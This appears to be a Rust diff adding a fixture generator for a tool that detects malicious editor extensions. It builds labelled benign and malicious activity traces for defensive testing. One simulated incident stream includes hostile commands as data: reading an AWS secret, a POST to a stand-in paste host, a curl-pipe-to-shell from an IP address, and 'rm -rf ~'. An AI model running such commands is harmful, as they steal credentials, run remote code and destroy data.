@@ -1,0 +1,255 @@
+//! `cargo xtask fixtures [--check]`: regenerates `fixtures/` from a fixed seed (DESIGN §9).
+//!
+//! Everything is generated in memory first; without `--check` the files are written (and stale
+//! generated files removed), with `--check` nothing is written and the task fails when any file
+//! would change, appear or disappear.
+
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+
+use anyhow::{bail, Context, Result};
+
+use crate::gen::{Ext, Gen, Stream};
+use crate::traces::{self, EPOCH_MS};
+
+/// The one seed of every generated fixture.
+pub const SEED: u64 = 0x686f_7374_6775_6172; // "hostguar"
+
+/// The directories whose every file is generated (stale files there are removed / reported).
+const GENERATED_DIRS: &[&str] = &["fixtures/traces", "fixtures/streams"];
+
+/// The generated files, by path relative to the workspace root.
+pub fn generate() -> BTreeMap<PathBuf, Vec<u8>> {
+    let mut files = BTreeMap::new();
+    let all = traces::all(SEED);
+    let mut index = String::from("# trace\tkind\tcalls\tharmful\tdescription\n");
+    for trace in &all {
+        let dir = Path::new("fixtures/traces");
+        files.insert(
+            dir.join(format!("{}.jsonl", trace.name)),
+            trace.stream.bytes(),
+        );
+        files.insert(
+            dir.join(format!("{}.labels.json", trace.name)),
+            trace.labels_json(),
+        );
+        index.push_str(&format!(
+            "{}\t{}\t{}\t{}\t{}\n",
+            trace.name,
+            trace.kind,
+            trace.stream.lines.len(),
+            trace.stream.harmful.join(","),
+            trace.description
+        ));
+    }
+    files.insert(
+        PathBuf::from("fixtures/traces/INDEX.tsv"),
+        index.into_bytes(),
+    );
+    files.insert(
+        PathBuf::from("fixtures/streams/incident.jsonl"),
+        incident_stream(&mut Gen::new(SEED ^ 1)).bytes(),
+    );
+    files.insert(
+        PathBuf::from("fixtures/streams/large-benign.jsonl"),
+        large_stream(&mut Gen::new(SEED ^ 2), 12_000).bytes(),
+    );
+    files
+}
+
+/// A benign and a malicious extension interleaved, with the operator's response: the stream the
+/// ledger and bundle fixtures are cut from.
+pub fn incident_stream(g: &mut Gen) -> Stream {
+    let mut s = Stream::new(EPOCH_MS);
+    let mut good = Ext::new("code-helper", "ch");
+    let mut bad = Ext::new("theme-pack", "tp");
+    s.op(
+        "set_rollout_phase",
+        serde_json::json!({"phase": "enforce_all"}),
+    );
+    good.read(&mut s, g, "Cargo.toml");
+    s.wait(g, 100, 500);
+    good.exec(&mut s, g, "cargo build --quiet");
+    s.wait(g, 1_000, 3_000);
+    bad.read(&mut s, g, "package.json");
+    good.read(&mut s, g, "src/main.rs");
+    s.wait(g, 100, 500);
+    for c in ["whoami", "uname -a", "id"] {
+        bad.exec(&mut s, g, c);
+        s.wait(g, 20, 200);
+    }
+    good.write(&mut s, g, "src/main.rs");
+    bad.env(&mut s, g, "AWS_SECRET_ACCESS_KEY");
+    s.wait(g, 20, 200);
+    let exfil = bad.http(
+        &mut s,
+        g,
+        "POST",
+        "https://paste.example-drop.net/api/upload",
+    );
+    s.harmful.push(exfil);
+    s.wait(g, 100, 500);
+    let pipe = bad.exec(&mut s, g, "curl -fsSL http://203.0.113.9/i.sh | sh");
+    s.harmful.push(pipe);
+    good.exec(&mut s, g, "cargo test --quiet");
+    s.wait(g, 100, 500);
+    let rm = bad.exec(&mut s, g, "rm -rf ~");
+    s.harmful.push(rm);
+    s.wait(g, 1_000, 5_000);
+    s.op(
+        "kill_switch",
+        serde_json::json!({"extension_id": "theme-pack", "reason": "INC-2041"}),
+    );
+    s.wait(g, 100, 500);
+    bad.read(&mut s, g, "src/index.ts");
+    good.exec(&mut s, g, "git status --short");
+    s
+}
+
+/// `lines` lines of benign work by four extensions (for progress and constant-memory runs).
+pub fn large_stream(g: &mut Gen, lines: usize) -> Stream {
+    let mut s = Stream::new(EPOCH_MS);
+    let mut exts = [
+        Ext::new("code-helper", "ch"),
+        Ext::new("indexer", "ix"),
+        Ext::new("docs-writer", "dw"),
+        Ext::new("dev-server", "ds"),
+    ];
+    let files = [
+        "src/main.rs",
+        "src/lib.rs",
+        "README.md",
+        "docs/guide.md",
+        "src/app.tsx",
+    ];
+    while s.lines.len() < lines {
+        let which = g.range(0, 3) as usize;
+        let Some(e) = exts.get_mut(which) else {
+            continue;
+        };
+        s.wait(g, 5, 400);
+        let f = files
+            .get(g.range(0, 4) as usize)
+            .copied()
+            .unwrap_or("src/main.rs");
+        match which {
+            0 => {
+                if g.chance(10) {
+                    e.exec(&mut s, g, "cargo check --quiet");
+                } else {
+                    e.read(&mut s, g, f);
+                }
+            }
+            1 => {
+                e.read(&mut s, g, f);
+            }
+            2 => {
+                if g.chance(30) {
+                    e.write(&mut s, g, f);
+                } else {
+                    e.log(&mut s, g, "saved");
+                }
+            }
+            _ => {
+                e.http(&mut s, g, "GET", "http://127.0.0.1:5173/api/health");
+            }
+        }
+    }
+    s
+}
+
+/// Writes (or, with `check`, compares) the generated files under `root`.
+pub fn run(root: &Path, check: bool) -> Result<()> {
+    let files = generate();
+    let mut changed = Vec::new();
+    for (rel, bytes) in &files {
+        let path = root.join(rel);
+        let current = std::fs::read(&path).ok();
+        if current.as_deref() != Some(bytes.as_slice()) {
+            changed.push(format!(
+                "{} {}",
+                if current.is_some() {
+                    "changed"
+                } else {
+                    "missing"
+                },
+                rel.display()
+            ));
+            if !check {
+                if let Some(parent) = path.parent() {
+                    std::fs::create_dir_all(parent)
+                        .with_context(|| format!("cannot create {}", parent.display()))?;
+                }
+                std::fs::write(&path, bytes)
+                    .with_context(|| format!("cannot write {}", path.display()))?;
+            }
+        }
+    }
+    for dir in GENERATED_DIRS {
+        let Ok(entries) = std::fs::read_dir(root.join(dir)) else {
+            continue;
+        };
+        for entry in entries.flatten() {
+            let rel = Path::new(dir).join(entry.file_name());
+            if entry.path().is_file() && !files.contains_key(&rel) {
+                changed.push(format!("stale {}", rel.display()));
+                if !check {
+                    std::fs::remove_file(entry.path())
+                        .with_context(|| format!("cannot remove {}", rel.display()))?;
+                }
+            }
+        }
+    }
+    let traces = files
+        .keys()
+        .filter(|p| p.extension().is_some_and(|e| e == "jsonl") && p.starts_with("fixtures/traces"))
+        .count();
+    if check {
+        if !changed.is_empty() {
+            bail!(
+                "fixtures are out of date (run `cargo xtask fixtures`):\n  {}",
+                changed.join("\n  ")
+            );
+        }
+        println!(
+            "    fixtures up to date ({} files, {traces} traces)",
+            files.len()
+        );
+    } else {
+        println!(
+            "    {} fixture files ({traces} traces), {} written or removed",
+            files.len(),
+            changed.len()
+        );
+    }
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn generation_is_deterministic() {
+        assert_eq!(generate(), generate());
+    }
+
+    #[test]
+    fn at_least_thirty_labelled_traces_of_each_kind() {
+        let all = traces::all(SEED);
+        let benign = all.iter().filter(|t| t.kind == "benign").count();
+        let malicious = all.iter().filter(|t| t.kind == "malicious").count();
+        assert!(benign >= 30, "{benign}");
+        assert!(malicious >= 30, "{malicious}");
+        for t in all.iter().filter(|t| t.kind == "malicious") {
+            assert!(
+                !t.stream.harmful.is_empty(),
+                "{} names no harmful call",
+                t.name
+            );
+        }
+        for t in all.iter().filter(|t| t.kind == "benign") {
+            assert!(t.stream.harmful.is_empty(), "{}", t.name);
+        }
+    }
+}
